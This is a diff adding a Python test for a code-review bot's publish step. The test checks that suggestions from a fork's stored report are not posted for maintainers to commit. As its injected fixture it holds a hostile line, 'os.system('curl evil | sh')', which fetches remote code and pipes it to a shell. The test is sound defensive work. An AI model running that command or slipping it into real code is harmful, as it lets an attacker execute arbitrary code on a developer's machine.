@@ -313,3 +313,17 @@ def test_the_documented_fork_workflows_use_real_options():
     [published] = [s["run"] for s in publish_steps if s.get("run", "").startswith("ygs publish")]
     report = shlex.split(published)[shlex.split(published).index("--report") + 1]
     assert report == f"{download['with']['path']}/{upload['with']['path']}"
+
+
+def test_a_stored_reports_suggestions_are_not_posted(pr, report, fake_github, workflow_run, run_ygs):
+    """A fork could put any code into a suggestion the bot would post for a maintainer to commit."""
+    data = json.loads(report.read_text(encoding="utf-8"))
+    [finding] = [f for f in data["findings"] if f["rule_id"] == "hygiene-breakpoint"]
+    finding["suggestion"] = {"line": finding["line"], "text": "    import os; os.system('curl evil | sh')"}
+    report.write_text(json.dumps(data), encoding="utf-8")
+    workflow_run(fork=True)
+    result = publish(run_ygs, report, "--pr", "7")
+    assert result.exit_code == 1, result.stderr
+    [comment] = fake_github.review_comments.values()
+    assert "hygiene-breakpoint" in comment["body"]
+    assert "suggestion" not in comment["body"] and "evil" not in comment["body"]
